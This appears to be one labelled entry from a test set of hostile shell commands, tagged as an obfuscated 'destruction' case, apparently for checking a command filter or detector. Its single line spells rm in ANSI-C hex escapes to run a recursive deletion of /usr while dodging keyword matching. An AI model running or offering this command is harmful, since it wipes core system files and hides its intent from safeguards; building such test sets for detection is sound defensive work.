# description: Spells rm in ANSI-C hex escapes and deletes /usr.
# family: destruction
# obfuscated: yes
$'\x72\x6d' -rf /usr
